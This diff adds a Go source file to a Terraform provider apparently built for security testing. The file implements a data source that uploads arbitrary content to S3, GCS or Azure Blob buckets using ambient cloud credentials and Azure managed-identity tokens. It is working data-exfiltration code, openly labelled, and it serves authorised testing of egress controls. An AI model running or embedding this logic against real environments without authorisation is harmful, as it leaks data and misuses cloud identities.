@@ -0,0 +1,320 @@
+// Copyright (c) Datadog, Inc.
+// SPDX-License-Identifier: Apache-2.0
+
+package provider
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	awshttp "github.com/aws/aws-sdk-go-v2/aws/transport/http"
+	"github.com/aws/aws-sdk-go-v2/config"
+	"github.com/aws/aws-sdk-go-v2/service/s3"
+	"github.com/datadog/terraform-provider-terrapwner/internal/utils"
+	"golang.org/x/oauth2/google"
+
+	"github.com/hashicorp/terraform-plugin-framework/datasource"
+	"github.com/hashicorp/terraform-plugin-framework/types"
+)
+
+// gcsEndpoint is the Google Cloud Storage JSON API endpoint. This is a variable
+// so tests can point it at a local server.
+var gcsEndpoint = "https://storage.googleapis.com"
+
+const (
+	// gcsScope is the OAuth scope requested to write objects.
+	gcsScope = "https://www.googleapis.com/auth/devstorage.read_write"
+
+	// gcpCredentialTimeout bounds the resolution of the GCP credentials and access token.
+	gcpCredentialTimeout = 5 * time.Second
+
+	// azureStorageResource is the resource of the managed identity token requested to write blobs.
+	azureStorageResource = "https://storage.azure.com/"
+
+	// azureStorageAPIVersion is the Blob service API version, recent enough for
+	// Microsoft Entra ID authorization.
+	azureStorageAPIVersion = "2021-08-06"
+
+	// azureCredentialTimeout bounds the managed identity token request.
+	azureCredentialTimeout = 5 * time.Second
+)
+
+// exfilBucketURLFormats maps the object storage modes to the format of their endpoint URL.
+var exfilBucketURLFormats = map[string]string{
+	exfilModeS3:        "s3://bucket/key",
+	exfilModeGCS:       "gs://bucket/key",
+	exfilModeAzureBlob: "https://account.blob.core.windows.net/container/blob",
+}
+
+// exfilModeNames are the names of the object storage services, for failure reasons.
+var exfilModeNames = map[string]string{
+	exfilModeS3:        "S3",
+	exfilModeGCS:       "GCS",
+	exfilModeAzureBlob: "Azure Blob",
+}
+
+// readBucket writes the content to an object storage bucket with the ambient
+// cloud credentials and updates the state.
+func (d *TerrapwnerExfilDataSource) readBucket(ctx context.Context, data *TerrapwnerExfilDataSourceModel, bucket, key string, content []byte,
+	network string, timeout time.Duration, resp *datasource.ReadResponse) {
+	data.ResponseCode = types.Int64Value(0)
+
+	// Complete key prefixes with a random name, so repeated runs do not overwrite each other
+	if key == "" || strings.HasSuffix(key, "/") {
+		key += "terrapwner-" + exfilTransferID()
+	}
+	contentType := data.ContentType.ValueString()
+	if data.ContentType.IsNull() {
+		contentType = exfilDefaultContentTypes[exfilBodyRaw]
+	}
+	contentEncoding := ""
+	if data.Compress.ValueString() != utils.CompressionNone && data.Encode.ValueString() == utils.EncodingNone {
+		contentEncoding = data.Compress.ValueString()
+	}
+
+	var remoteAddress exfilRemoteAddress
+	client := &http.Client{
+		Timeout:   timeout,
+		Transport: utils.LoggingTransport(newExfilTransport(network, timeout, &remoteAddress)),
+	}
+
+	var statusCode int
+	var err error
+	switch data.Mode.ValueString() {
+	case exfilModeS3:
+		input := &s3.PutObjectInput{
+			Bucket:      aws.String(bucket),
+			Key:         aws.String(key),
+			Body:        bytes.NewReader(content),
+			ContentType: aws.String(contentType),
+		}
+		if contentEncoding != "" {
+			input.ContentEncoding = aws.String(contentEncoding)
+		}
+		statusCode, err = putS3Object(ctx, client, data.Region.ValueString(), input)
+	case exfilModeGCS:
+		statusCode, err = putGCSObject(ctx, client, bucket, key, contentType, contentEncoding, content)
+	case exfilModeAzureBlob:
+		statusCode, err = putAzureBlob(ctx, client, d.snapshot.Getenv, data.Endpoint.ValueString(), bucket, key, contentType, contentEncoding, content)
+	}
+	data.RemoteAddress = types.StringValue(remoteAddress.String())
+	data.ResponseCode = types.Int64Value(int64(statusCode))
+	if err != nil {
+		data.Success = types.BoolValue(false)
+		data.FailReason = types.StringValue(fmt.Sprintf("%s exfiltration failed: %v", exfilModeNames[data.Mode.ValueString()], err))
+
+		// If we expect success but didn't get it, add an error
+		if data.ExpectSuccess.ValueBool() {
+			resp.Diagnostics.AddError(
+				"Exfiltration Failed",
+				fmt.Sprintf("Expected successful exfiltration but %s", data.FailReason.ValueString()),
+			)
+			return
+		}
+		resp.Diagnostics.Append(resp.State.Set(ctx, data)...)
+		return
+	}
+
+	data.Success = types.BoolValue(true)
+	data.FailReason = types.StringValue("")
+	data.ChunksSent = types.Int64Value(1)
+	data.ObjectKey = types.StringValue(key)
+
+	// Save data into Terraform state
+	resp.Diagnostics.Append(resp.State.Set(ctx, data)...)
+}
+
+// putS3Object writes an object with the AWS credentials of the environment and
+// returns the HTTP status code of the response, 0 if none was received. A
+// write rejected because the bucket is in another region is retried there.
+func putS3Object(ctx context.Context, client *http.Client, region string, input *s3.PutObjectInput) (int, error) {
+	credsCtx, cancel := context.WithTimeout(ctx, awsCredentialTimeout)
+	defer cancel()
+	cfg, err := config.LoadDefaultConfig(credsCtx)
+	if err != nil {
+		return 0, fmt.Errorf("unable to load AWS configuration: %w", err)
+	}
+	if region == "" {
+		region = cfg.Region
+	}
+	if region == "" {
+		region = "us-east-1"
+	}
+
+	for attempt := 0; ; attempt++ {
+		s3Client := s3.NewFromConfig(cfg, func(o *s3.Options) {
+			o.Region = region
+			o.HTTPClient = client
+		})
+		_, err = s3Client.PutObject(ctx, input)
+		if err == nil {
+			return http.StatusOK, nil
+		}
+
+		var respErr *awshttp.ResponseError
+		if !errors.As(err, &respErr) {
+			return 0, err
+		}
+		bucketRegion := respErr.Response.Header.Get("X-Amz-Bucket-Region")
+		if attempt > 0 || bucketRegion == "" || bucketRegion == region {
+			return respErr.HTTPStatusCode(), err
+		}
+		region = bucketRegion
+		if _, err := input.Body.(io.Seeker).Seek(0, io.SeekStart); err != nil {
+			return 0, err
+		}
+	}
+}
+
+// putGCSObject writes an object with the Application Default Credentials
+// (service account key, workload identity federation, gcloud user credentials
+// or the metadata server) and returns the HTTP status code of the response, 0
+// if none was received.
+func putGCSObject(ctx context.Context, client *http.Client, bucket, key, contentType, contentEncoding string, content []byte) (int, error) {
+	credsCtx, cancel := context.WithTimeout(ctx, gcpCredentialTimeout)
+	defer cancel()
+	creds, err := google.FindDefaultCredentials(credsCtx, gcsScope)
+	if err != nil {
+		return 0, fmt.Errorf("unable to find GCP credentials: %w", err)
+	}
+	token, err := creds.TokenSource.Token()
+	if err != nil {
+		return 0, fmt.Errorf("unable to get GCP access token: %w", err)
+	}
+
+	query := url.Values{}
+	query.Set("uploadType", "media")
+	query.Set("name", key)
+	if contentEncoding != "" {
+		query.Set("contentEncoding", contentEncoding)
+	}
+	uploadURL := fmt.Sprintf("%s/upload/storage/v1/b/%s/o?%s", gcsEndpoint, url.PathEscape(bucket), query.Encode())
+
+	httpReq, err := http.NewRequestWithContext(ctx, http.MethodPost, uploadURL, bytes.NewReader(content))
+	if err != nil {
+		return 0, err
+	}
+	httpReq.Header.Set("Content-Type", contentType)
+	httpReq.Header.Set("User-Agent", utils.GetUserAgent())
+	token.SetAuthHeader(httpReq)
+
+	httpResp, err := client.Do(httpReq)
+	if err != nil {
+		return 0, err
+	}
+	defer httpResp.Body.Close()
+	body, _ := io.ReadAll(io.LimitReader(httpResp.Body, 4096))
+	if httpResp.StatusCode < 200 || httpResp.StatusCode >= 300 {
+		return httpResp.StatusCode, fmt.Errorf("HTTP %d: %s", httpResp.StatusCode, strings.TrimSpace(string(body)))
+	}
+	return httpResp.StatusCode, nil
+}
+
+// putAzureBlob writes a block blob and returns the HTTP status code of the
+// response, 0 if none was received. The request is authorized by the SAS token
+// of the endpoint URL if it has one, else with a managed identity token.
+func putAzureBlob(ctx context.Context, client *http.Client, getenv func(string) string, endpoint, container, blob, contentType, contentEncoding string, content []byte) (int, error) {
+	blobURL, err := url.Parse(endpoint)
+	if err != nil {
+		return 0, err
+	}
+	blobURL.Path = "/" + container + "/" + blob
+	blobURL.RawPath = ""
+
+	var token string
+	if !blobURL.Query().Has("sig") {
+		token, err = azureStorageToken(ctx, getenv)
+		if err != nil {
+			return 0, err
+		}
+	}
+
+	httpReq, err := http.NewRequestWithContext(ctx, http.MethodPut, blobURL.String(), bytes.NewReader(content))
+	if err != nil {
+		return 0, err
+	}
+	httpReq.Header.Set("Content-Type", contentType)
+	if contentEncoding != "" {
+		httpReq.Header.Set("Content-Encoding", contentEncoding)
+	}
+	httpReq.Header.Set("User-Agent", utils.GetUserAgent())
+	httpReq.Header.Set("x-ms-blob-type", "BlockBlob")
+	httpReq.Header.Set("x-ms-version", azureStorageAPIVersion)
+	httpReq.Header.Set("x-ms-date", time.Now().UTC().Format(http.TimeFormat))
+	if token != "" {
+		httpReq.Header.Set("Authorization", "Bearer "+token)
+	}
+
+	httpResp, err := client.Do(httpReq)
+	if err != nil {
+		// Keep the SAS token out of the failure reason
+		var urlErr *url.Error
+		if errors.As(err, &urlErr) {
+			redacted := *blobURL
+			redacted.RawQuery = ""
+			urlErr.URL = redacted.String()
+		}
+		return 0, err
+	}
+	defer httpResp.Body.Close()
+	body, _ := io.ReadAll(io.LimitReader(httpResp.Body, 4096))
+	if httpResp.StatusCode < 200 || httpResp.StatusCode >= 300 {
+		return httpResp.StatusCode, fmt.Errorf("HTTP %d: %s", httpResp.StatusCode, strings.TrimSpace(string(body)))
+	}
+	return httpResp.StatusCode, nil
+}
+
+// azureStorageToken requests a Blob Storage access token for the managed
+// identity of the instance, the user-assigned identity given by AZURE_CLIENT_ID
+// if set.
+func azureStorageToken(ctx context.Context, getenv func(string) string) (string, error) {
+	query := url.Values{}
+	query.Set("api-version", azureIdentityAPIVersion)
+	query.Set("resource", azureStorageResource)
+	if clientID := getenv("AZURE_CLIENT_ID"); clientID != "" {
+		query.Set("client_id", clientID)
+	}
+
+	body, err := azureMetadataGet(ctx, "/metadata/identity/oauth2/token?"+query.Encode(), azureCredentialTimeout)
+	if err != nil {
+		return "", fmt.Errorf("unable to get Azure managed identity token: %w", err)
+	}
+	var token struct {
+		AccessToken string `json:"access_token"`
+	}
+	if err := json.Unmarshal([]byte(body), &token); err != nil || token.AccessToken == "" {
+		return "", fmt.Errorf("invalid managed identity token response")
+	}
+	return token.AccessToken, nil
+}
+
+// parseBucketURL returns the bucket and key of the endpoint URL of an object
+// storage mode. In azblob mode, the bucket is the container and the key the blob
+// name.
+func parseBucketURL(rawURL, mode string) (string, string, error) {
+	u, err := url.Parse(rawURL)
+	if err != nil {
+		return "", "", err
+	}
+	if mode == exfilModeAzureBlob {
+		container, blob, _ := strings.Cut(strings.TrimPrefix(u.Path, "/"), "/")
+		if (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" || container == "" {
+			return "", "", fmt.Errorf("expected a %s URL", exfilBucketURLFormats[mode])
+		}
+		return container, blob, nil
+	}
+	scheme, _, _ := strings.Cut(exfilBucketURLFormats[mode], ":")
+	if u.Scheme != scheme || u.Host == "" {
+		return "", "", fmt.Errorf("expected a %s URL", exfilBucketURLFormats[mode])
+	}
+	return u.Host, strings.TrimPrefix(u.Path, "/"), nil
+}